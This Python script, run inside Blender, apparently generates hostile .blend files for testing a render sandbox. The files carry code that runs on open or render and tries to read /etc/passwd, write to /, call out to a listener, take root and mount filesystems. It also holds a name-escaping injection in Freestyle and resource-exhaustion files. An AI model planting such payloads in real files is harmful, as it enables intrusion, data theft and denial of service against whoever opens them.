"""Makes files that mean harm, for the tests of the sandbox.

    blender --background --factory-startup --python hostile.py -- FOLDER TARGET HOST PORT

TARGET is a folder that they try to reach, HOST and PORT a listener that they try to
call. What their code managed, if it ever runs, it prints as one line of JSON after
"hostile: ". One Blender makes them all.
"""

import os
import sys

import bpy

FOLDER, TARGET, HOST, PORT = sys.argv[sys.argv.index("--") + 1:]

# Every deed is tried; a deed that is refused says by what.
CODE = """
import bpy, ctypes, json, os, socket, subprocess
done = {}
def attempt(name, deed):
    try:
        done[name] = "done: %%s" %% (deed(),)
    except BaseException as error:
        done[name] = "refused: %%r" %% (error,)
def put(path):
    with open(path, "w") as file:
        file.write("hostile")
def get(path):
    with open(path) as file:
        return file.read(20)
def call():
    socket.create_connection((%(host)r, %(port)s), 5).close()
def others():
    mine = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) > 30]
    assert mine, "no process in sight"
    os.kill(mine[0], 0)
def mount():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")
def unshare():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
attempt("write to the target", lambda: put(%(target)r + "/hostile"))
attempt("write to /", lambda: put("/hostile"))
attempt("write to /usr", lambda: put("/usr/hostile"))
attempt("write next to the file", lambda: put(os.path.dirname(bpy.data.filepath) + "/hostile"))
attempt("read the target", lambda: get(%(target)r + "/secret"))
attempt("read the users", lambda: get("/etc/passwd"))
attempt("read the roots", lambda: os.listdir("/root") or 1 / 0)
attempt("call out", call)
attempt("see others", others)
attempt("become root", lambda: os.setuid(0))
attempt("mount", mount)
attempt("make a user namespace", unshare)
attempt("raise a limit", lambda: __import__("resource").setrlimit(7, (1 << 20, 1 << 20)))
print("hostile: " + json.dumps(done), flush=True)
""" % {"target": TARGET, "host": HOST, "port": PORT}


def base():
    bpy.ops.wm.read_factory_settings(use_empty=True)
    scene = bpy.context.scene
    scene.render.engine = "CYCLES"
    scene.cycles.samples = 1
    scene.cycles.use_denoising = False
    scene.render.resolution_x, scene.render.resolution_y = 64, 48
    scene.render.resolution_percentage = 100
    bpy.ops.mesh.primitive_cube_add(location=(0, 0, 1))
    bpy.ops.object.light_add(type="SUN", location=(3, -3, 6), rotation=(0.6, 0.3, 0))
    bpy.ops.object.camera_add(location=(6, -6, 5), rotation=(1.0, 0, 0.785))
    scene.camera = bpy.context.object
    return scene


def cube():
    return bpy.data.objects["Cube"]


def save(name):
    bpy.ops.wm.save_as_mainfile(filepath=os.path.join(FOLDER, name + ".blend"), compress=True, relative_remap=False)


def driven(expression):
    driver = cube().driver_add("location", 2).driver
    driver.type = "SCRIPTED"
    driver.expression = expression


# A script that registers itself when the file is opened.
base()
text = bpy.data.texts.new("registers.py")
text.from_string(CODE)
text.use_module = True
save("register_script")

# A driver whose expression is a program.
base()
bpy.data.texts.new("code.py").from_string(CODE)
driven("exec(bpy.data.texts['code.py'].as_string()) or 0.0")
save("python_driver")

# A driver that never comes to an end.
base()
driven("sum(1 for _ in iter(int, 1))")
save("endless_driver")

# Style modules of Freestyle, which Blender runs though scripts are disabled: in the first
# view layer, in another one, and in one that keyframes switch over to them.
def style(layer):
    settings = layer.freestyle_settings
    settings.mode = "SCRIPT"
    module = settings.modules.new()
    module.script = bpy.data.texts.new("style.py")
    module.script.from_string(CODE)


scene = base()
scene.render.use_freestyle = True
style(scene.view_layers[0])
save("freestyle")

scene = base()
scene.render.use_freestyle = True
scene.view_layers[0].use_freestyle = False
style(scene.view_layers.new("second"))
save("freestyle_layer")

scene = base()
scene.render.use_freestyle = True
style(scene.view_layers[0])
settings = scene.view_layers[0].freestyle_settings
for value, frame in (("EDITOR", 0), ("SCRIPT", 1)):
    settings.mode = value
    scene.keyframe_insert('view_layers["%s"].freestyle_settings.mode' % scene.view_layers[0].name, frame=frame)
settings.mode = "EDITOR"
save("freestyle_keyed")

# Names of a line set and of a view layer that end the text in a line of Python into which
# Freestyle writes them: it escapes quotes, but no backslash.
RUNS_TEXT = "\\',exec(bpy.data.texts[0].as_string()))#"
for name in ("freestyle_line_set", "freestyle_layer_name"):
    scene = base()
    scene.render.use_freestyle = True
    bpy.data.texts.new("code.py").from_string(CODE)
    layer = scene.view_layers[0]
    line_set = layer.freestyle_settings.linesets[0]
    line_set.linestyle = bpy.data.linestyles.new("lines")
    (line_set if name == "freestyle_line_set" else layer).name = RUNS_TEXT
    save(name)

# Every node that holds a text, with Python in it: a script of Open Shading Language, a light
# of IES, and a frame that is a note.
scene = base()
text = bpy.data.texts.new("code.py")
text.from_string(CODE)
text.use_module = True
material = bpy.data.materials.new("script")
material.use_nodes = True
cube().data.materials.clear()
cube().data.materials.append(material)
scene.cycles.shading_system = True
nodes = material.node_tree.nodes
nodes.new("ShaderNodeScript").script = text
nodes.new("NodeFrame").text = text
light = nodes.new("ShaderNodeTexIES")
light.ies = text
material.node_tree.links.new(light.outputs[0], nodes["Principled BSDF"].inputs["Roughness"])
save("text_nodes")

# Shaders in Open Shading Language that include, read and write files, as a text, as a file, and
# as what would be its compiled form.
scene = base()
scene.cycles.shading_system = True
text = bpy.data.texts.new("hostile.osl")
text.from_string("""
#include "%(target)s/secret"
shader hostile(output float Value = 0)
{
    fprintf("%(target)s/hostile", "written\\n");
    fprintf("/hostile", "written\\n");
    Value = dict_find("%(target)s/secret", "/") + (float) texture("%(target)s/secret", u, v);
    printf("hostile: %%f\\n", Value);
}
""" % {"target": TARGET})
material = bpy.data.materials.new("shader")
material.use_nodes = True
cube().data.materials.clear()
cube().data.materials.append(material)
nodes = material.node_tree.nodes
nodes.new("ShaderNodeScript").script = text
for path in ("//hostile.osl", os.path.join(TARGET, "secret"), "/proc/self/environ"):
    node = nodes.new("ShaderNodeScript")
    node.mode = "EXTERNAL"
    node.filepath, node.bytecode, node.bytecode_hash = path, text.as_string(), "0" * 32
save("osl_nodes")

# Two drivers that wait for each other, without a line of Python.
base()
for index, other in ((0, "location.y"), (1, "location.x")):
    driver = cube().driver_add("location", index).driver
    driver.type = "SUM"
    target = driver.variables.new().targets[0]
    target.id, target.data_path = cube(), other
save("driver_loop")

# Files written to the root, and to the target.
scene = base()
scene.use_nodes = True
nodes, links = scene.node_tree.nodes, scene.node_tree.links
for folder in ("/", TARGET, "//"):
    node = nodes.new("CompositorNodeOutputFile")
    node.base_path = folder
    node.file_slots[0].path = "hostile"
    links.new(nodes["Render Layers"].outputs["Image"], node.inputs[0])
scene.render.filepath = os.path.join(TARGET, "hostile")
save("file_output")

# Two subdivisions on each other: some 10^11 faces.
base()
for _ in range(2):
    modifier = cube().modifiers.new("more", "SUBSURF")
    modifier.subdivision_type = "SIMPLE"
    modifier.levels, modifier.render_levels = 0, 9
save("subdivision")

# A picture of 4 gigapixels, 64 GiB as Cycles holds it.
scene = base()
scene.render.resolution_x = scene.render.resolution_y = 65536
save("huge_output")

# A picture that is larger on disk than the tests' limit lets it be.
scene = base()
scene.render.resolution_x = scene.render.resolution_y = 1024
scene.render.image_settings.file_format = "BMP"
save("large_file")

# Textures that are no pictures: devices without an end, the driver's own pipe, memory,
# a folder. Each has a file of its own, so that none hides another.
for name, path in {
    "texture_zero": "/dev/zero",
    "texture_random": "/dev/random",
    "texture_stdin": "/dev/stdin",
    "texture_pipe": "/proc/self/fd/3",
    "texture_memory": "/proc/self/mem",
    "texture_kcore": "/proc/kcore",
    "texture_folder": "/usr/",
}.items():
    base()
    image = bpy.data.images.new(name, 1, 1)
    image.source = "FILE"
    image.filepath_raw = path
    material = bpy.data.materials.new(name)
    material.use_nodes = True
    node = material.node_tree.nodes.new("ShaderNodeTexImage")
    node.image = image
    shader = material.node_tree.nodes["Principled BSDF"]
    material.node_tree.links.new(node.outputs["Color"], shader.inputs["Base Color"])
    cube().data.materials.append(material)
    save(name)

# A library that is the pipe by which the driver gets its commands: to read it waits for
# ever, and Blender reads it before the driver sees the file.
scene = base()
with bpy.data.libraries.load(os.path.join(FOLDER, "texture_zero.blend"), link=True) as (_, linked):
    linked.materials = ["texture_zero"]
cube().data.materials.append(bpy.data.materials["texture_zero"])
bpy.data.libraries[0].filepath = "/proc/self/fd/3"
save("library_pipe")

# Samples of 1, and 16 million when frame 2 is rendered: by keyframes, and by a driver
# without a line of Python.
for name in ("keyed_samples", "driven_samples"):
    scene = base()
    scene.cycles.use_adaptive_sampling = False
    if name == "keyed_samples":
        for frame, samples in ((1, 1), (2, 1 << 24)):
            scene.cycles.samples = samples
            scene.keyframe_insert("cycles.samples", frame=frame)
        scene.cycles.samples = 1
    else:
        driver = scene.driver_add("cycles.samples").driver
        driver.type = "SUM"
        target = driver.variables.new().targets[0]
        target.id, target.data_path = bpy.data.objects["Sun"], "location.x"
        bpy.data.objects["Sun"].location.x = 1 << 24  # a sun shines alike from anywhere
        scene.cycles.samples = 1
    save(name)

# A thousand pictures in the place of one.
scene = base()
for number in range(999):
    scene.view_layers.new("layer %d" % number)
save("view_layers")
